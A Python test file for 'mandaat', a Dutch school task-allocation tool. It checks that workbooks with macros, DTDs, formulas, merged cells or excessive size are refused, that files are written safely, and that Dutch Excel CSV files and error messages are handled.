def test_macros_are_refused_by_name_and_by_content(tmp_path):
    xlsm = small_workbook(tmp_path / "a.xlsx").rename(tmp_path / "a.xlsm")
    assert refused(xlsm).type == "macros"
    inside = with_part(tmp_path / "a.xlsm", tmp_path / "b.xlsx", "xl/vbaProject.bin", b"\0" * 99)
    problem = refused(inside)
    assert problem.type == "macros"
    assert dutch(problem).endswith("een werkboek met macro's (.xlsm, vbaProject.bin): mandaat "
                                   "voert geen macro's uit; sla het op als Excel-werkmap (.xlsx)")


def test_a_dtd_is_refused(tmp_path):
    path = with_part(small_workbook(tmp_path / "a.xlsx"), tmp_path / "dtd.xlsx",
                     "docProps/custom.xml",
                     b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')
    assert refused(path).type == "xml_dtd"


def test_formulas_in_read_cells_are_refused_with_the_cell(tmp_path):
    path = small_workbook(tmp_path / "a.xlsx")
    edit(path, lambda wb: wb["Personen"].__setitem__("D2", "=36+2"))
    problem = refused(path)
    assert (problem.type, problem.loc) == ("formula", ("Personen!D2",))


def test_merged_cells_in_the_matrix_are_refused_with_the_range(tmp_path):
    path = small_workbook(tmp_path / "a.xlsx")
    edit(path, lambda wb: wb["Taken"].merge_cells("H2:I2"))
    problem = refused(path)
    assert (problem.type, problem.loc) == ("merged_cells", ("Taken!H2",))
    assert "(H2:I2)" in problem.msg


def test_a_value_beyond_the_rows_or_columns_is_refused(tmp_path):
    path = small_workbook(tmp_path / "a.xlsx")
    edit(path, lambda wb: wb["Personen"].cell(row=W.LIMITS["rows"] + 5, column=2, value="x"))
    problem = refused(path)
    assert problem.type == "workbook_too_large"
    assert problem.loc == (f"Personen!B{W.LIMITS['rows'] + 5}",)
    path = small_workbook(tmp_path / "b.xlsx")
    edit(path, lambda wb: wb["Teams"].cell(row=2, column=16384, value="x"))  # column XFD
    problem = refused(path)
    assert problem.type == "workbook_too_large" and problem.loc == ("Teams!XFD2",)


def test_too_many_cells_in_a_sheet(tmp_path, monkeypatch):
    path = small_workbook(tmp_path / "a.xlsx")
    monkeypatch.setitem(W.LIMITS, "cells", 20)
    assert refused(path).type == "workbook_too_large"
    # a school too large to be read back is not written either
    assert problems(W.workbook_bytes, mandaat.load_school(BASE))[0].type == "workbook_too_large"


@pytest.mark.parametrize("content, why", [
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "een oud .xls-bestand"),
    (b"format: mandaat/1\n", "het is geen zip-archief"),
    (b"PK\x03\x04" + bytes(100), "beschadigd"),
])
def test_not_a_workbook(tmp_path, content, why):
    path = tmp_path / "x.xlsx"
    path.write_bytes(content)
    problem = refused(path)
    assert problem.type == "not_a_workbook" and why in dutch(problem)


def test_a_zip_that_is_no_workbook_and_a_damaged_sheet(tmp_path):
    path = tmp_path / "x.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("hello.txt", "hi")
    assert "no workbook" in refused(path).msg
    good = small_workbook(tmp_path / "a.xlsx")
    broken = tmp_path / "broken.xlsx"
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(broken, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "xl/worksheets/sheet3.xml":
                data = data[: len(data) // 2]
            zout.writestr(info, data)
    assert refused(broken).type == "not_a_workbook"


def test_limits_take_the_largest_school_a_board_has(tmp_path):
    """150 staff, 600 tasks: well inside the limits, read in a few seconds at most."""
    people = [{"id": f"p{i}", "name": f"Teamlid {i}", "roles": ["leraar"]} for i in range(150)]
    people[0]["roles"] = ["schoolleider"]
    tasks = [{"id": f"t{i}", "type": "overig", "title": f"Taak {i}", "accountable": ["p0"],
              "responsible": [f"p{i % 150}", f"p{(i * 7) % 150}"],
              "hours": {f"p{i % 150}": 10}} for i in range(600)]
    data = {"format": "mandaat/1", "school": {"name": "Grote school"}, "people": people,
            "tasks": tasks}
    school = mandaat.load_school(data)
    content = W.workbook_bytes(school)
    assert W.read_workbook(content) == school


# --- writing files -----------------------------------------------------------------------------


def test_writing_is_atomic_and_never_over_a_file_unless_asked(tmp_path, monkeypatch):
    target = tmp_path / "w.xlsx"
    target.write_bytes(b"mijn ingevulde werkboek")
    with pytest.raises(MandaatInputError) as info:
        W.write_template(target)
    assert info.value.problems[0].type == "file_exists"
    assert info.value.render("nl").endswith("bestaat al; mandaat overschrijft een bestand "
                                            "alleen met --force")
    assert target.read_bytes() == b"mijn ingevulde werkboek"

    def fail(*args: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", fail)
    with pytest.raises(MandaatInputError) as info:
        W.write_template(target, overwrite=True)
    assert info.value.problems[0].type == "unwritable"
    assert target.read_bytes() == b"mijn ingevulde werkboek"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["w.xlsx"]  # no temporary file left


def test_write_file_writes_only_a_regular_file_with_a_name_that_fits(tmp_path):
    fifo = tmp_path / "fifo.xlsx"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)   # so that a wrong open cannot hang
    try:
        with pytest.raises(MandaatInputError) as info:
            W.write_template(fifo, overwrite=True)
        assert [p.type for p in info.value.problems] == ["not_a_regular_file"]
        assert os.read(reader, 10) == b""
    finally:
        os.close(reader)
    school = mandaat.load_school(BASE)
    for name, fits in (("school.yaml", "school.xlsx"), ("w.xlsm", "w.xlsx"), ("w", "w.xlsx")):
        with pytest.raises(MandaatInputError) as info:
            W.write_workbook(school, tmp_path / name)
        (problem,) = info.value.problems
        assert problem.type == "wrong_suffix" and problem.msg.endswith(f"name it '{fits}'")
    for name, suffix in (("w.xlsx", ".yaml"), ("w.XLTX", ".json"), ("w.csv", ".yaml"),
                         ("w.xlsm", ".csv")):
        with pytest.raises(MandaatInputError) as info:
            W.write_file(tmp_path / name, "x", suffix=suffix)
        assert info.value.problems[0].type == "wrong_suffix"
    W.write_file(tmp_path / "m.csv", "x", suffix=".csv")    # CSV text to a .csv name
    W.write_file(tmp_path / "s.yml", "x", suffix=".yaml")
    W.write_file(tmp_path / "any.xlsx", "x")                # no suffix given: any name
    assert sorted(p.name for p in tmp_path.iterdir()) == ["any.xlsx", "fifo.xlsx", "m.csv",
                                                          "s.yml"]


# --- the library's door, and what stays as it was ----------------------------------------------


def test_load_school_reads_a_workbook_and_a_yaml_school_has_no_cells(tmp_path):
    path = export(BASE, tmp_path / "w.xlsx")
    assert mandaat.load_school(path) == mandaat.load_school(BASE)
    assert mandaat.load_school(str(path)) == mandaat.load_school(BASE)
    assert W.workbook_cells(mandaat.load_school(BASE)) == {}
    report = mandaat.check(mandaat.load_school(BASE))
    assert mandaat.report.render_text(report, "nl", cells={}) == mandaat.report.render_text(
        report, "nl")


def test_unknown_params_found_by_check_point_at_their_cell(tmp_path):
    data = copy.deepcopy(BASE)
    data["params"] = {"dev_lag_weks": 10}
    path = export(data, tmp_path / "w.xlsx")
    with pytest.raises(SchoolFileError) as info:
        mandaat.check(mandaat.load_school(path))
    (problem,) = info.value.problems
    assert problem.loc == ("Drempels!B2",) and problem.file == str(path)


def test_every_workbook_problem_reads_as_dutch(tmp_path):
    """The messages of this module have Dutch, with no English left in them."""
    import re

    source = "".join(p.read_text(encoding="utf-8")
                     for p in Path(W.__file__).parent.glob("*.py"))
    samples = [
        "the file is 12.3 MB; mandaat reads files up to 10.0 MB",
        "the workbook holds 2000 parts; mandaat reads at most 1000",
        "the workbook unpacks to 120.0 MB; mandaat reads at most 100.0 MB",
        "part 'xl/a.bin' unpacks to 1000 times its packed size; mandaat reads at most 100 times",
        "part 'x.xml' declares a DTD (<!DOCTYPE or <!ENTITY); a workbook needs none, and mandaat "
        "reads none",
        "the sheet has values beyond column ALL; mandaat reads at most 1000 columns",
        "the file has values beyond row 10000; mandaat reads at most 10000 rows",
        "the sheet holds more than 250000 cells; mandaat reads at most 250000",
        "not a CSV file: line contains NUL",
        "not an Excel workbook (.xlsx): the zip holds no workbook",
        "no sheet 'Personen' or 'Taken': is this a mandaat workbook? (for a planner's activity "
        "overview: --layout planner)",
        "no sheet with a heading 'Activiteit' (or 'Taak') in its first 30 rows; is this a "
        "planner's activity overview?",
        "no heading 'Activiteit' (or 'Taak') in the first 30 rows; is this a planner's "
        "activity overview?",
        "the cell shows an error (#N/A)",
        "column 'Naam' appears twice (also Personen!B1)",
        "row 'BRIN' appears twice (also School!A3)",
        "'Tom' has two columns (also Taken!H1)",
        "no person or team with name or id 'x' (did you mean 'y'?)",
        "no external party with name or id 'x'",
        "no step role, person, team or external party with name or id 'x'",
        "a row without an ID needs a 'Naam' to make one from",
        "missing required column 'Rollen'",
        "a value without a label; write what it is in column A",
        "without a 'Personen' sheet, a person's column heading names the roles too, as "
        "'Anna Jansen (leraar)'; got 'Anna'",
        "hours in a row without an activity",
        "no role for this team member: a row 'Functie' under the heading names each one's role",
        "route 'r1' has another value here already: 'eigen_koers'",
        "step 2 names someone else already: 'ib'",
        "the workbook has no column for 'people[0].x'; keep this school as YAML or JSON",
        "the workbook has no row for 'school.x'; keep this school as YAML or JSON",
        "a list item with ',', ';', a line break or spaces at its ends cannot be written in "
        "one cell",
        "cannot be written in a cell: it is longer than a cell holds (32767 characters)",
        "the workbook would not read back as the same school; keep this school as YAML or JSON",
        "cannot write: Permission denied",
        "not an Excel workbook (.xlsx): damaged (part 'a.xml' is listed twice)",
        "not an Excel workbook (.xlsx): damaged (part 'a.xml' is packed in a way Excel does not "
        "use)",
        "not an Excel workbook (.xlsx): damaged (part 'a.xml' is written in cp037, an encoding "
        "Excel does not use)",
        "the cell holds 60,000,000 characters; a cell holds at most 32,767",
        "part 'xl/styles.xml' holds more than 100,000 formats and styles; mandaat reads at most "
        "100,000",
        "part 'xl/sharedStrings.xml' holds more than 1,000,000 shared texts; mandaat reads at "
        "most 1,000,000",
        "'Marieke' is the first name of more than one: 'Marieke Jansen', 'Marieke Bakker'; "
        "write the whole name",
        "is a named pipe (FIFO), not a regular file; mandaat writes only to a regular file, "
        "also with --force: choose another name",
        "is a device, not a regular file; mandaat writes only to a regular file, also with "
        "--force: choose another name",
        "mandaat writes a workbook only to a name ending in .xlsx; name it 'w.xlsx'",
        "is a link to '/tmp/school.yaml'; mandaat writes a workbook only to a name ending in "
        ".xlsx; name it 'school.xlsx'",
        "a name ending in .xlsx is read as a workbook, and this is a school file; name it "
        "'w.yaml'",
        "a name ending in .csv is read as CSV, and this is JSON; name it 'w.json'",
        "a name ending in .xlsm is read as a workbook, and this is a web page; name it "
        "'w.html'",
        "unknown step role 'ib'er' (did you mean 'ib'?)",
        "'1 tot 4' is not a group or a range of groups; write '1 t/m 4' or '1, 2, 3, 4'",
        "'8-5' is not a group or a range of groups; write the lowest group first: '5 t/m 8'",
        "'5-10' is not a group or a range of groups: groups run from 1 to 8",
        "the group '5-6' reads back as the groups 5, 6; name it otherwise, or keep this "
        "school as YAML or JSON",
        "'31-02-2026' is not a date: February 2026 has no day 31",
        "'15-13-2026' is not a date: there is no month 13",
        "'15-11-26' is not a date: write the year in full, '15-11-2026'",
        "'morgen' is not a date; write it as dd-mm-jjjj, such as 15-11-2026",
        "the group '5-10' reads back as no group; name it otherwise, or keep this school as "
        "YAML or JSON",
    ]
    for msg in samples:
        template = re.sub(r"'[^']*'|\d+(\.\d+)?|[A-Z]+\d*!?[A-Z]*\d*", "", msg)[:12]
        assert template.split()[0] in source, msg  # the sample is a message of the module
        dutch_text = problem_text(Problem("w.xlsx", None, ("A1",), "invalid_value", msg), "nl")
        assert dutch_text != msg and not english_words(dutch_text), (msg, dutch_text)


def test_a_route_typed_in_the_routes_sheet(tmp_path):
    path = export(BASE, tmp_path / "w.xlsx")

    def route(wb: openpyxl.Workbook) -> None:
        ws = wb["Routes"]
        ws.append(["r-ouders", "Ouders eerst naar de leerkracht", "vraag_ouders", 1, "leraar"])
        ws.append(["r-ouders", None, None, 2, "de ib'er", None, None, "ja"])
        ws.append(["r-ouders", None, None, 3, "Anna Jansen", "dev_lag_weeks"])
        ws.append(["r-ouders", None, None, 3, "Anna Jansen", None, None, None, None, None, "ja"])

    edit(path, route)
    (problem,) = problems(W.read_workbook, path)
    assert dutch(problem) == (f"{path}: Routes!E3: onbekende rol in een route 'de ib'er' "
                              "(bedoelde u 'ib'?)")
    edit(path, lambda wb: wb["Routes"].__setitem__("E3", "ib"))
    (route_,) = W.read_workbook(path).routes
    assert route_.for_.signal == "vraag_ouders" and route_.title.startswith("Ouders eerst")
    assert [s.kind for s in route_.steps] == ["role", "role", "person"]
    assert route_.steps[1].when[0].on_request
    # two rows with step 3: two alternatives, one a param of the rule pack
    assert [w.model_dump(exclude_defaults=True) for w in route_.steps[2].when] == [
        {"after_weeks": {"param": "dev_lag_weeks"}}, {"willful": True}]


def test_writing_into_a_folder_that_does_not_exist(tmp_path):
    with pytest.raises(MandaatInputError) as info:
        W.write_template(tmp_path / "nergens" / "w.xlsx")
    assert info.value.render("nl").endswith("kan niet schrijven: de map bestaat niet")


def _edited_example(tmp_path, edit) -> Path:
    import openpyxl

    wb = openpyxl.load_workbook(W.example_workbook_path())
    edit(wb)
    path = tmp_path / "school.xlsx"
    wb.save(path)
    return path


def test_a_first_name_one_person_has_is_that_person(tmp_path):
    def edit(wb):
        wb["Mandaten"]["B2"] = "Anna"
        wb["Mandaten"]["C2"] = "ilse bakker"
        wb["Teams"]["D2"] = "Lisa, Wendy Peters, Fatima, Noah Hendriks, Yara"

    school = mandaat.load_school(_edited_example(tmp_path, edit))
    mandate = next(m for m in school.mandates if m.id == "m-kwaliteit")
    assert (mandate.from_, mandate.to) == ("anna", "ilse")
    team = next(t for t in school.teams if t.id == "lt-onder")
    assert sorted(team.members) == ["fatima", "lisa", "noah", "wendy", "yara"]


def test_a_first_name_two_people_have_is_refused_with_both_names(tmp_path):
    def edit(wb):
        wb["Personen"].append(["s-vos", "Sanne Vos", "leraar"])
        wb["Personen"].append(["s-bos", "Sanne Bos", "leraar"])
        wb["Mandaten"]["C2"] = "Sanne"

    with pytest.raises(SchoolFileError) as info:
        mandaat.load_school(_edited_example(tmp_path, edit))
    (problem,) = [p for p in info.value.problems if p.loc == ("Mandaten!C2",)]
    assert problem.type == "ambiguous_name"
    assert problem.msg == ("'Sanne' is the first name of more than one: 'Sanne Vos', "
                           "'Sanne Bos'; write the whole name")


def test_a_suggestion_names_a_name_from_the_sheet_not_an_id_made_from_it(tmp_path):
    def edit(wb):
        wb["Personen"]["A2"] = None  # anna's id is made from her name: anna-jansen
        wb["Mandaten"]["B2"] = "anna-janse"

    with pytest.raises(SchoolFileError) as info:
        mandaat.load_school(_edited_example(tmp_path, edit))
    (problem,) = [p for p in info.value.problems if p.loc == ("Mandaten!B2",)]
    assert problem.msg.endswith("(did you mean 'Anna Jansen'?)")


def test_thousands_of_unknown_names_among_thousands_of_people_stay_fast(tmp_path):
    import time

    def edit(wb):
        for n in range(3000):
            wb["Personen"].append([f"p{n:04d}", f"Persoon {n:04d}", "leraar"])
        wb["Teams"]["D2"] = ", ".join(f"Persoon {n:04d}x" for n in range(1000))

    path = _edited_example(tmp_path, edit)
    start = time.perf_counter()
    with pytest.raises(SchoolFileError) as info:
        mandaat.load_school(path)
    assert time.perf_counter() - start < 5
    unknown = [p for p in info.value.problems if p.loc == ("Teams!D2",)]
    assert len(unknown) == 1000
    hinted = [p for p in unknown if "did you mean" in p.msg]
    assert 0 < len(hinted) < len(unknown)


def test_a_csv_file_as_dutch_excel_saves_it_reads(tmp_path):
    """Excel in Dutch saves "CSV (gescheiden door lijstscheidingsteken)" with ';' in
    Windows-1252, and "CSV UTF-8" with a byte-order mark: both read as the same school."""
    rows = ("ID;Taak;Soort taak;Anna Jansen (schoolleider);Zoë Coördinator (bouwcoördinator)\n"
            "t1;Café-overleg;studiedag;A;R 10\n")
    (tmp_path / "windows.csv").write_bytes(rows.encode("cp1252"))
    (tmp_path / "utf8.csv").write_bytes(b"\xef\xbb\xbf" + rows.encode("utf-8"))
    windows, utf8 = (W.read_csv(tmp_path / n) for n in ("windows.csv", "utf8.csv"))
    assert [p.label for p in windows.people] == ["Anna Jansen", "Zoë Coördinator"]
    assert windows.tasks == utf8.tasks and windows.people == utf8.people
    assert windows.tasks[0].title == "Café-overleg" and windows.people[1].roles == [
        "bouwcoordinator"]


def test_the_raci_matrix_of_the_example_reads_back_with_its_default_accountable(tmp_path):
    from mandaat.graph.matrix import matrix_csv, raci_matrix

    school = mandaat.load_school(mandaat.example_school_path())
    path = tmp_path / "matrix.csv"
    path.write_text(matrix_csv(raci_matrix(school)), encoding="utf-8")
    back = mandaat.load_school(path)
    assert back.defaults.accountable == "anna-jansen" and school.defaults.accountable == "anna"
    assert sorted((t.id, t.type, t.task_domain) for t in back.tasks) == sorted(
        (t.id, t.type, t.task_domain) for t in school.tasks)
    assert sorted((t.name, t.kind) for t in back.teams) == sorted(
        (t.name, t.kind) for t in school.teams)
    assert sorted((e.name, e.kind) for e in back.externals) == sorted(
        (e.name, e.kind) for e in school.externals)
    code = main(["check", str(path), "--format", "json"], stdout=io.StringIO())
    assert code in (0, 1)



def test_a_planner_row_of_groups_reads_ranges_as_the_personen_sheet_does(tmp_path):
    def change(ws: Any) -> None:
        ws["F7"], ws["G7"] = "groep 5", "6 t/m 8"

    school = W.read_workbook(planner_workbook(tmp_path / "planner.xlsx", change))
    assert {p.id: p.groups for p in school.people}["sanne-visser"] == ["5"]
    assert {p.id: p.groups for p in school.people}["pieter-smit"] == ["6", "7", "8"]
    with pytest.raises(SchoolFileError) as info:
        W.read_workbook(planner_workbook(tmp_path / "tot.xlsx",
                                         lambda ws: ws.__setitem__("G7", "1 tot 4")))
    (problem,) = info.value.problems
    assert problem.loc == ("Werkverdeling!G7",) and problem.type == "invalid_value"
